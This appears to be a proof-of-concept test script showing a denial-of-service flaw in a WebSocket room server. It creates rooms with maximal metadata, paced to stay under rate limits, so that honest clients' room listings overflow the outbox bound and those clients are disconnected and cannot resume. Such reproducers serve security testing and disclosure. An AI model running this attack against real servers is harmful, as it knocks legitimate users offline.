"""ListRooms answer bigger than the outbox bound: an attacker makes rooms with the
largest metadata allowed (16 entries x 64-byte key x 256-byte value); an honest client's
ListRooms with the default page (100) is then one reliable message of ~530 KiB, over the
256 KiB reliable-queue bound: the honest session is closed as a slow consumer (4501).
Env: TR_URL (default ws://127.0.0.1:7543/ws), TR_PID.  Bounded: < 30 s."""
import asyncio, os, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import tr
from tr import pb

ROOMS = int(os.environ.get("ROOMS", "60"))

def meta(i):
    return {f"{k:02d}".ljust(64, "k"): (f"{i}-{k}-").ljust(256, "v") for k in range(16)}

async def attacker():
    # 16 rooms per session: join 16 (creating them with metadata), leave them (they stay
    # open 30 s empty), repeat.
    made = 0
    ws = await tr.connect()
    await tr.drain(ws, 0.2)
    rid = 1
    while made < ROOMS:
        batch = min(16, ROOMS - made)
        names = [f"big-{made + j:04d}" for j in range(batch)]
        for n in names:
            rid += 1
            await ws.send(tr.env(pb.ClientMessage(join=pb.JoinRoom(request_id=rid, room=n,
                                 create=pb.RoomOptions(metadata=meta(made))))))
            await asyncio.sleep(0.09)   # ~5.4 KB each: under the 64 KiB/s byte budget
        ok = 0
        end = time.time() + 5
        while ok < batch and time.time() < end:
            m, _ = await tr.recv_until(ws, lambda m: m.WhichOneof("kind") in ("joined", "error"), 2)
            if m is None:
                break
            if m.WhichOneof("kind") == "error":
                print("attacker error:", m.error.code, m.error.message); break
            ok += 1
        env = pb.ClientEnvelope()
        for n in names:
            env.messages.append(pb.ClientMessage(leave=pb.LeaveRoom(request_id=0, room=n)))
        await ws.send(env.SerializeToString())
        made += ok
        await asyncio.sleep(1.0)   # stay inside the message rate (50/s, burst 100)
    await ws.close()
    return made

async def honest(limit=0):
    ws = await tr.connect()
    await tr.drain(ws, 0.2)
    req = pb.ClientMessage(request=pb.Request(request_id=7, list_rooms=pb.ListRooms(limit=limit)))
    t0 = time.time()
    await ws.send(tr.env(req))
    got = None
    try:
        while time.time() - t0 < 5:
            data = await asyncio.wait_for(ws.recv(), 5)
            for m in tr.decode(data).messages:
                if m.WhichOneof("kind") == "response":
                    got = (len(data), len(m.response.rooms.rooms))
            if got: break
    except Exception as e:
        pass
    await asyncio.sleep(0.3)
    code, reason = ws.close_code, ws.close_reason
    await ws.close()
    return got, code, reason

async def main():
    print("honest ListRooms before:", await honest())
    made = await attacker()
    print("attacker made", made, "rooms with 16x(64+256)-byte metadata")
    print("honest ListRooms (default page):", await honest())
    print("honest ListRooms limit=40:", await honest(40))

if __name__ == "__main__":
    asyncio.run(asyncio.wait_for(main(), 50))

async def honest_resume():
    """The honest client is in a game room, lists rooms (default page), is closed 4501,
    and resumes as told: the resume is refused 4504 (its queue overflowed), and its seat
    in the game room is gone."""
    ws = await tr.connect()
    m, _ = await tr.recv_until(ws, lambda m: m.WhichOneof("kind") == "welcome")
    token = m.welcome.resume_token
    await ws.send(tr.env(tr.join("game", 1)))
    await tr.recv_until(ws, lambda m: m.WhichOneof("kind") == "joined")
    await ws.send(tr.env(pb.ClientMessage(request=pb.Request(request_id=7, list_rooms=pb.ListRooms()))))
    try: await tr.drain(ws, 1.0)
    except Exception: pass
    print("honest in 'game', ListRooms ->", ws.close_code, ws.close_reason)
    ws2 = await tr.connect(f"resume={token}&received=0")
    try: await tr.drain(ws2, 1.0)
    except Exception: pass
    print("resume ->", ws2.close_code, ws2.close_reason)
    ws2.transport.abort()

if __name__ == "__main__" and os.environ.get("RESUME"):
    asyncio.run(asyncio.wait_for(honest_resume(), 10))
